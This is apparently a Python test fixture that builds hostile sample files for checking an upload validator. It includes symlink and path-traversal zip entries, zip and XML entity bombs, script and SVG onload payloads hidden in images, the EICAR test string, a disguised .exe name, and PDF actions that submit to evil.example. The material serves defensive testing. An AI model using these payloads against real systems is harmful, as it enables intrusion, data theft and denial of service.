"""More of the corpus: polyglots, names and links inside of archives, virus scanners' test files, odd pictures."""

import io
import stat
import struct
import zipfile
import zlib
from functools import partial
from typing import Final

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.files import papers, pictures
from tests.files.papers import docx_with, pdf
from tests.files.pictures import chunk, heic, jpg, page, png, png_of, saved
from tests.files.sample import MIB, Sample, raw, text

RUNS: Final = "<html><script>document.title='ran';new Image().src='/ran'</script></html>"
"""Tells everybody who lets it run."""
ENTITIES: Final = b"<!DOCTYPE a [<!ENTITY b '" + b"b" * 1000 + b"'>]><w:document>" + b"&b;" * 5000 + b"</w:document>"


def scanners_mark() -> bytes:
    """The harmless text that every virus scanner reports, put together here so that none reports this file."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"-".join((b"EICAR", b"STANDARD", b"ANTIVIRUS", b"TEST", b"FILE!$H+H*"))


def linked_entry() -> bytes:
    """A document one of whose parts is a link out of the folder in which somebody unpacks it."""
    out = io.BytesIO(papers.docx())
    with zipfile.ZipFile(out, "a") as packed:
        link = zipfile.ZipInfo("word/media/a.png")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        packed.writestr(link, "/etc/passwd")
    return out.getvalue()


def nul_in_name() -> bytes:
    return docx_with("word/media/aX.png", b"x").replace(b"aX.png", b"a\0.png")


def nested(depth: int) -> bytes:
    inner = papers.archive({"a": bytes(1000)})
    for _ in range(depth):
        inner = papers.archive({"a.zip": inner})
    return inner


def colour_16_bit() -> bytes:
    rows = b"".join(b"\0" + struct.pack(">3H", 65535, 20_000, 0) * 300 for _ in range(200))
    return png_of(300, 200, zlib.compress(rows), depth=16, colour=2)


def told(words: str) -> bytes:
    """A picture with these words among its metadata."""
    info = PngInfo()
    info.add_text("Comment", words)
    info.add_text("XML:com.adobe.xmp", words)
    return saved(page(300, 400), "PNG", pnginfo=info)


def heic_of_400_megapixels() -> bytes:
    """The small picture's own box claims another size."""
    whole = heic()
    place = whole.index(b"ispe") + 8
    return whole[:place] + struct.pack(">II", 20_000, 20_000) + whole[place + 8 :]


def late_profile() -> bytes:
    """A colour profile that unpacks to 100 MB."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(bytes(MIB)) for _ in range(100)) + packer.flush()
    whole = png(200, 200)
    return whole[:33] + chunk(b"iCCP", b"a\0\0" + body) + whole[33:]


def long_exif() -> bytes:
    whole = jpg()
    segment = b"Exif\0\0MM\0*\0\0\0\x08" + b"\xff\xff" + b"\x01\x0e\0\x02\xff\xff\xff\xff\0\0\0\x08" * 4000
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment + whole[2:]


def action(kind: str, rest: str = "") -> str:
    return f"/OpenAction << /S /{kind} {rest} >>"


TAKEN_MORE: Final = [
    Sample("a jpg with a page in its comment", lambda: saved(page(), "JPEG", comment=RUNS.encode()), "ok", "jpg"),
    Sample("a jpg with a page behind it", lambda: jpg() + RUNS.encode(), "ok", "jpg"),
    Sample("a png with a page in its text", partial(told, RUNS), "ok", "png"),
    Sample("a png with a page behind it", lambda: png() + RUNS.encode(), "ok", "png"),
    Sample("a jpg with absurd metadata", long_exif, "ok", "jpg"),
    Sample("a colour png of 16 bits", colour_16_bit, "ok", "png"),
    Sample("a grey png with transparency", lambda: saved(page(300, 400).convert("LA"), "PNG"), "ok", "png"),
    Sample("a jpg of two pictures", lambda: two_in_a_jpg(), "ok", "jpg"),
    Sample("a black page", lambda: saved(Image.new("L", (900, 1200), 0), "JPEG"), "ok", "jpg"),
    Sample("a pdf that is also a page", lambda: pdf(content=RUNS.encode()) + RUNS.encode(), "ok", "pdf"),
    Sample("a pdf with a script on its page", lambda: pdf(root="/AA << /WC " + papers.SCRIPT + " >>"), "ok", "pdf",
           ("script",)),
    Sample("a pdf with a form of scripts", lambda: pdf(root="/AcroForm << /XFA (x) /Fields [] >>"), "ok", "pdf",
           ("script",)),
    Sample("a pdf that goes into its attachment", lambda: pdf(root=action("GoToE", "/D (a)")), "ok", "pdf",
           ("attachment",)),
    Sample("a pdf that opens an address", lambda: pdf(root=action("URI", "/URI (http://evil.example/)")), "ok", "pdf"),
    Sample("a pdf that sends itself", lambda: pdf(root=action("SubmitForm", "/F (http://evil.example/)")), "ok", "pdf"),
    Sample("a pdf with bytes behind its end", lambda: pdf() + bytes(2000), "ok", "pdf"),
    Sample("a docx with a name turned around", lambda: docx_with("word/media/\u202egnp.exe", b"x"), "ok", "docx",
           ("attachment",)),
    Sample("a docx with a very long name", lambda: docx_with("word/" + "a" * 5000 + ".xml", b"x"), "ok", "docx"),
    Sample("a docx with reserved names", lambda: docx_with("word/CON.xml", b"x"), "ok", "docx"),
    Sample("a docx with a scanner's test file", lambda: docx_with("word/embeddings/a.bin", scanners_mark()), "ok",
           "docx", ("attachment",)),
    Sample("a docx with entities", lambda: docx_with("word/document.xml", ENTITIES), "ok", "docx"),
]  # fmt: skip


REFUSED_MORE: Final = [
    Sample("a scanner's test file", scanners_mark, "type", "text"),
    Sample("a scanner's test file in a zip", lambda: papers.archive({"a.com": scanners_mark()}), "archive", "zip"),
    Sample("a zip in a zip, ten deep", partial(nested, 10), "archive", "zip"),
    Sample("a zip that climbs out", lambda: papers.archive({"../../a.jpg": b"x"}), "damaged", "docx"),
    Sample("an xlsx bomb", lambda: papers.archive({"xl/workbook.xml": bytes(60 * MIB)}), "unpacks_too_large", "zip"),
    Sample("an OpenDocument text", lambda: papers.archive({"mimetype": b"", "content.xml": b""}), "type", "odt"),
    Sample("a docx with a link out of it", linked_entry, "damaged", "docx"),
    Sample("a docx with NUL in a name", nul_in_name, "damaged", "docx"),
    Sample("a docx with a path of another system", lambda: docx_with("..\\..\\x", b"x"), "damaged", "docx"),
    Sample("a windows shortcut", raw(b"L\0\0\0\x01\x14\x02\0"), "program", "program"),
    Sample("a cabinet", raw(b"MSCF\0\0\0\0"), "archive", "archive"),
    Sample("a gif that is also a script", text("GIF89a=1;new Image().src='/ran'//"), "type", "gif"),
    Sample("a script", text("new Image().src='/ran'; document.title = 'ran'"), "type", "text"),
    Sample("a style sheet", text("body { background: url(/ran) }"), "type", "text"),
    Sample("a page behind many blanks", text(" " * 3000 + RUNS), "web_page", "html"),
    Sample("a frame", text("<iframe srcdoc='<script>1</script>'>"), "web_page", "html"),
    Sample("a drawing with another's event", text("<SVG ONLOAD=alert(1)>"), "web_page", "svg"),
    Sample("a heic that claims 400 megapixels", heic_of_400_megapixels, "too_many_pixels", "heic"),
    Sample("a png with a profile of 100 MB", late_profile, "damaged", "png"),
    Sample("a png without pixels", lambda: png()[:33] + chunk(b"IEND", b""), "damaged", "png"),
    Sample("a jpg with a scanner's test file in a zip", lambda: jpg() + papers.archive({"a": scanners_mark()}),
           "two_in_one", "jpg"),
    Sample("a pdf with a docx behind it", lambda: pdf() + papers.docx(), "two_in_one", "pdf"),
]  # fmt: skip


def two_in_a_jpg() -> bytes:
    """As phones keep a photo and its second exposure."""
    return saved(page(300, 400), "MPO", save_all=True, append_images=[page(300, 400, lines=2)])


FLOODS: Final = [
    Sample("a pdf with a picture of 400 megapixels", papers.flood_pdf, "ok", "pdf"),
    Sample("fifty megapixels in four colours", lambda: saved(Image.new("CMYK", (7000, 7100)), "JPEG"), "ok", "jpg"),
    Sample("noise that nothing packs", pictures.noise, "ok", "png"),
]
"""The heaviest that are still taken."""
